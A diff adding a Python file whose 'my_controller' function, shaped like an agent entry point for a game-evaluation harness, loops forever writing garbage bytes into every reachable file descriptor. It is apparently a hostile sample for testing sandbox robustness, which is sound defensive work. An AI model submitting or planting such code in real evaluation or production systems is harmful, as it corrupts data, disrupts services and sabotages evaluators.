@@ -1,0 +1,12 @@
+"""Writes into every file it can reach and never stops."""
+
+import os
+
+
+def my_controller(observation, action_space, is_act_continuous=False):
+    while True:
+        for fd in range(3, 256):
+            try:
+                os.write(fd, b"GARBAGE" * 1000)
+            except OSError:
+                pass
